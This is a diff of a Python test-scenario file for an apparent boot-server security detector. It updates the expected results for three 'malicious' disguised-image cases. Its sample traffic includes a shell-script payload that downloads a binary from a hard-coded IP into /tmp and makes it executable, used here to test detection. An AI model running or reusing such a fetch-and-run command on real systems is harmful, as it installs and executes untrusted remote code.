@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from bootwarden.scenarios.model import Alert, Expect, Notice, scenario
+from bootwarden.scenarios.model import Expect, Notice, scenario
 from bootwarden.scenarios.sites import BOOT_SERVER, DEVICE, HQ, IMAGE, LAB
 from bootwarden.traffic import images, tftp
 from bootwarden.traffic.wire import Wire
@@ -11,20 +11,15 @@ from bootwarden.traffic.wire import Wire
 @scenario(
     "BW23",
     "malicious",
-    plain=Expect(
-        notices=(Notice("Disguised_Image", DEVICE, BOOT_SERVER, "startup-config"),),
-        alerts=(Alert(1542005230, "10.0.0.5", "10.0.1.1"),),
-    ),
+    raises=[("BW23", 0, "10.0.0.5", "10.0.1.1")],
+    raises_with_site=[("BW20", 0, "10.0.0.5", "10.0.1.1"), ("BW23", 0, "10.0.0.5", "10.0.1.1")],
+    plain=Expect(notices=(Notice("Disguised_Image", DEVICE, BOOT_SERVER, "startup-config"),)),
     site=HQ,
     with_site=Expect(
         notices=(
             Notice("Disguised_Image", DEVICE, BOOT_SERVER, "startup-config"),
             Notice("Unapproved_Image", DEVICE, BOOT_SERVER, "startup-config"),
-        ),
-        alerts=(
-            Alert(1542120000, "10.0.0.5", "10.0.1.1"),
-            Alert(1542123000, "10.0.0.5", "10.0.1.1"),
-        ),
+        )
     ),
 )
 def bw23_image_as_config(wire: Wire) -> None:
@@ -38,9 +33,10 @@ LOGO = Notice("Disguised_Image", DEVICE, BOOT_SERVER, "www/LOGO.JPG")
 @scenario(
     "BW23",
     "malicious",
-    plain=Expect(notices=(LOGO,), alerts=(Alert(1542005230, "10.0.0.5", "10.0.1.1"),)),
+    raises=[("BW23", 0, "10.0.0.5", "10.0.1.1")],
+    plain=Expect(notices=(LOGO,)),
     site=HQ,
-    with_site=Expect(notices=(LOGO,), alerts=(Alert(1542123000, "10.0.0.5", "10.0.1.1"),)),
+    with_site=Expect(notices=(LOGO,)),
 )
 def bw23_image_as_picture(wire: Wire) -> None:
     """The approved image, of all things, as a picture: large blocks, capitals, a path."""
@@ -53,17 +49,15 @@ SCRIPT = b"#!/bin/sh\nwget -O /tmp/x http://45.83.20.10/x && chmod +x /tmp/x && 
 @scenario(
     "BW23",
     "malicious",
-    plain=Expect(
-        notices=(Notice("Disguised_Image", DEVICE, BOOT_SERVER, IMAGE),),
-        alerts=(Alert(1542005231, "10.0.0.5", "10.0.1.1"),),
-    ),
+    raises=[("BW23", 1, "10.0.0.5", "10.0.1.1")],
+    raises_with_site=[("BW21", 0, "10.0.0.5", "10.0.1.1"), ("BW23", 1, "10.0.0.5", "10.0.1.1")],
+    plain=Expect(notices=(Notice("Disguised_Image", DEVICE, BOOT_SERVER, IMAGE),)),
     site=HQ,
     with_site=Expect(
         notices=(
             Notice("Disguised_Image", DEVICE, BOOT_SERVER, IMAGE),
             Notice("Modified_Image", DEVICE, BOOT_SERVER, IMAGE),
-        ),
-        alerts=(Alert(1542121000, "10.0.0.5", "10.0.1.1"), Alert(1542123001, "10.0.0.5", "10.0.1.1")),
+        )
     ),
 )
 def bw23_script_as_image(wire: Wire) -> None:
